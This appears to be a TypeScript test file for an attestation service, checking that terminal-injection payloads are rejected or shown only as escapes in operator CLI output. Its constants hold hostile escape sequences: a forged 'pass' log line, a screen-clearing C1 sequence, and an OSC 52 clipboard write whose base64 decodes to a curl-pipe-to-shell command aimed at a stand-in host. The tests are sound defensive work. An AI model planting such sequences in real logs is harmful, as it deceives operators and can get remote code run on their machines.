/**
 * Terminal injection through what operators read, played as the attacker against
 * a real local cloud and the real CLI: an unauthenticated client can no longer put a control
 * character into the log (400 naming the field, nothing written), and text that is stored anyway
 * (entries written before the fix, a note another operator typed) reaches the terminal only as
 * visible escapes, in tables, fields and --json alike.
 */
import { randomBytes } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startLocalCloud, type LocalCloud } from '../../packages/local/src/cloud';
import { attestBody, attestOnce, newInstallKey, post, type Device } from '../support/protocol-client';
import { runCliAgainst } from './helpers';

const APP = 'com.example.terminal';
const TENANT = 'default';
/** Erase the line above, then draw a forged green pass; write the clipboard (OSC 52); clear the screen with C1 CSI. */
const FORGED_PASS = 'Pixel 8\u001b[1A\u001b[2K\u001b[32mpass     com.example.app  1.0.0\u001b[0m';
const CLIPBOARD = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
const C1_CLEAR = 'x\u009b2J\u009b3J';
/** Anything a terminal acts on: C0 but the newline ending each line, DEL, C1, bidi controls. */
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

let dataDir: string;
let cloud: LocalCloud;

beforeAll(async () => {
  dataDir = mkdtempSync(join(tmpdir(), 'attestor-terminal-'));
  cloud = await startLocalCloud({ dataDir, port: 0 });
  expect((await cli(['apps', 'create', APP])).code).toBe(0);
});
afterAll(async () => {
  await cloud?.stop();
  rmSync(dataDir, { recursive: true, force: true });
});

async function cli(argv: string[]) {
  return runCliAgainst(cloud.endpoint, dataDir, argv);
}

const device = (overrides: Partial<Device>): Device => ({
  platform: 'android',
  osVersion: '14',
  model: 'Pixel 8',
  signals: { rooted: false, emulator: false, debugger: false, hooked: false },
  ...overrides,
});

describe('an unauthenticated client', () => {
  it.each([
    ['device.model', { model: FORGED_PASS }],
    ['device.model', { model: CLIPBOARD }],
    ['device.platform', { platform: `android${C1_CLEAR}` }],
    ['device.osVersion', { osVersion: '14\u202e' }],
  ])('gets 400 naming %s for escape sequences, and the log gains nothing', async (field, overrides) => {
    // Prepare
    const before = await cli(['log', '--app', APP, '--json']);
    // Act
    const attempt = { appId: APP, appVersion: '1.0.0', packageBytes: randomBytes(64), key: newInstallKey() };
    const response = await attestOnce(cloud.endpoint, { ...attempt, extra: { device: device(overrides) } });
    // Assess
    expect(response.status).toBe(400);
    expect(response.body).toEqual({ error: 'invalid_request', field, message: `${field} may contain only printable ASCII characters (space to ~)` });
    expect((await cli(['log', '--app', APP, '--json'])).stdout.text).toBe(before.stdout.text);
  });

  it('keeps its nonce: the same nonce then attests normally', async () => {
    // Prepare
    const nonce = (await post(cloud.endpoint, '/v1/challenge', { appId: APP })).body['nonce'] as string;
    const common = { nonce, appId: APP, appVersion: '1.0.0', packageBytes: randomBytes(64), key: newInstallKey() };
    // Act
    const refused = await post(cloud.endpoint, '/v1/attest', attestBody({ ...common, extra: { device: device({ model: CLIPBOARD }) } }));
    const accepted = await post(cloud.endpoint, '/v1/attest', attestBody(common));
    // Assess
    expect([refused.status, accepted.status]).toEqual([400, 200]);
  });
});

describe('stored text an operator reads', () => {
  beforeAll(async () => {
    // As if written before the protocol refused it: straight into the log table.
    await cloud.services.attestationLog()!.record({
      tenantId: TENANT,
      appId: APP,
      appKnown: true,
      appVersion: '1.0.0',
      did: 'A'.repeat(43),
      platform: `android${C1_CLEAR}`,
      osVersion: `14${CLIPBOARD}`,
      model: FORGED_PASS,
      sdkVersion: '1.0.0',
      outcome: 'fail',
      reasons: ['measurement_mismatch'],
      time: Math.floor(Date.now() / 1000),
      jti: randomBytes(16).toString('base64url'),
    });
  });

  it('attestor log shows the escapes on one row and never the sequences', async () => {
    // Act
    const r = await cli(['log', '--app', APP]);
    // Assess
    expect(r.code).toBe(0);
    expect(r.stdout.text).not.toMatch(RAW_CONTROL);
    const row = r.stdout.lines.find((line) => line.includes('measurement_mismatch') && line.includes('\\x1b'));
    expect(row).toContain('Pixel 8\\x1b[1A\\x1b[2K\\x1b[32mpass');
    expect(row).toContain('(androidx\\x9b2J\\x9b3J 14\\x1b]52;c;');
  });

  it('attestor log --json stays valid JSON Lines holding exactly what was stored, escaped', async () => {
    // Act
    const r = await cli(['log', '--app', APP, '--json']);
    // Assess
    expect(r.code).toBe(0);
    expect(r.stdout.text).not.toMatch(RAW_CONTROL);
    const entries = r.stdout.lines.map((line) => JSON.parse(line) as { model: string; osVersion: string; platform: string });
    expect(entries).toContainEqual(expect.objectContaining({ model: FORGED_PASS, osVersion: `14${CLIPBOARD}`, platform: `android${C1_CLEAR}` }));
  });

  it('devices add and list show a hostile note as escapes, and --json keeps it', async () => {
    // Prepare: notes are free text another operator of the tenant may have typed.
    const note = `CI ${CLIPBOARD}${C1_CLEAR}\nforged line`;
    // Act
    const added = await cli(['devices', 'add', '--app', APP, '--debug', '--note', note]);
    const table = await cli(['devices', 'list', '--app', APP]);
    const json = await cli(['devices', 'list', '--app', APP, '--json']);
    // Assess
    for (const out of [added, table]) {
      expect(out.code).toBe(0);
      expect(out.stdout.text).not.toMatch(RAW_CONTROL);
      expect(out.stdout.text).toContain('CI \\x1b]52;c;');
      expect(out.stdout.text).toContain('\\nforged line');
    }
    expect(table.stdout.lines.filter((line) => line.includes('forged line'))).toHaveLength(1);
    expect(json.stdout.text).not.toMatch(RAW_CONTROL);
    expect(JSON.parse(json.stdout.text)).toContainEqual(expect.objectContaining({ note }));
  });
});
